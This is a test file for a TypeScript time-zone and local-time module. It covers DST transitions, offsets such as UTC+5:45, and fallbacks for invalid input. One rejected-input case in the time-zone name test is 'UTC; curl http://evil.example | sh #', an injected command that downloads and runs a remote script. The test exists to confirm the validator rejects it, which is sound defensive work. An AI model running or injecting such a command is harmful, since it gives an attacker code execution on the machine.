import { describe, expect, it } from 'vitest';
import {
  isTimeZone,
  localDay,
  localMinute,
  localOffset,
  localSecond,
  ownTimeZone,
} from '../../../src/contract/text/local-time.ts';
import { dayOf, dayOfMoment } from '../../../src/record/values/days.ts';
import { goTo } from '../../make/in-time-zone.ts';

/** Each place, a moment in UTC, and the minute there. */
const MINUTES = [
  ['America/Los_Angeles', '2026-11-29T01:29:07.123Z', '2026-11-28 17:29', 'UTC−8'],
  ['Pacific/Auckland', '2026-11-28T11:00:00Z', '2026-11-29 00:00', 'UTC+13'],
  ['Pacific/Auckland', '2026-11-28T10:59:59.999Z', '2026-11-28 23:59', 'UTC+13'],
  ['Pacific/Auckland', '2026-06-28T11:59:00Z', '2026-06-28 23:59', 'UTC+12'],
  ['Asia/Kathmandu', '2026-11-28T18:15:00Z', '2026-11-29 00:00', 'UTC+5:45'],
  ['UTC', '2026-11-29T01:29:00Z', '2026-11-29 01:29', 'UTC'],
  // The night on which the clock goes forward, and the one on which it goes back.
  ['Europe/Berlin', '2026-03-28T23:30:00Z', '2026-03-29 00:30', 'UTC+1'],
  ['Europe/Berlin', '2026-03-29T21:59:00Z', '2026-03-29 23:59', 'UTC+2'],
  ['Europe/Berlin', '2026-03-29T22:00:00Z', '2026-03-30 00:00', 'UTC+2'],
  ['America/New_York', '2026-11-01T04:30:00Z', '2026-11-01 00:30', 'UTC−4'],
  ['America/New_York', '2026-11-02T04:30:00Z', '2026-11-01 23:30', 'UTC−5'],
] as const;

describe('the name of a time zone', () => {
  it('is one that this machine knows, and no words beside it', () => {
    expect(['UTC', 'Europe/Oslo'].every(isTimeZone)).toBe(true);
    for (const text of ['', 'Nowhere', 'UTC; curl http://evil.example | sh #', 'UTC\n'])
      expect(isTimeZone(text)).toBe(false);
  });
});

describe('a moment by the clock on the wall here', () => {
  it.each(MINUTES)('in %s, %s is %s', (zone, moment, minute, offset) => {
    goTo(zone);
    expect(localMinute(moment)).toBe(minute);
    expect(localSecond(moment)).toBe(`${minute}:${moment.slice(17, 19)}`);
    expect(localOffset(moment)).toBe(offset);
    expect(localDay(moment)).toBe(minute.slice(0, 10));
    expect(localDay(new Date(moment))).toBe(minute.slice(0, 10));
    expect(dayOfMoment(moment)).toBe(dayOf(minute.slice(0, 10)));
  });

  it('has the name of its time zone, and counts in UTC where that is nonsense', () => {
    goTo('America/Los_Angeles');
    expect(ownTimeZone()).toBe('America/Los_Angeles');
    goTo('undefined');
    expect(ownTimeZone()).toBe('UTC');
    expect(localDay('2026-11-29T01:29:00Z')).toBe('2026-11-29');
  });

  it('leaves a date, and what is no time, as it is', () => {
    goTo('America/Los_Angeles');
    expect(localDay('2026-11-28')).toBe('2026-11-28');
    expect(dayOfMoment('2026-11-28')).toBe(dayOf('2026-11-28'));
    expect(localDay('')).toBe('');
    expect(localDay('once upon a time')).toBe('once upon ');
    expect(localMinute('soon')).toBe('soon');
  });
});
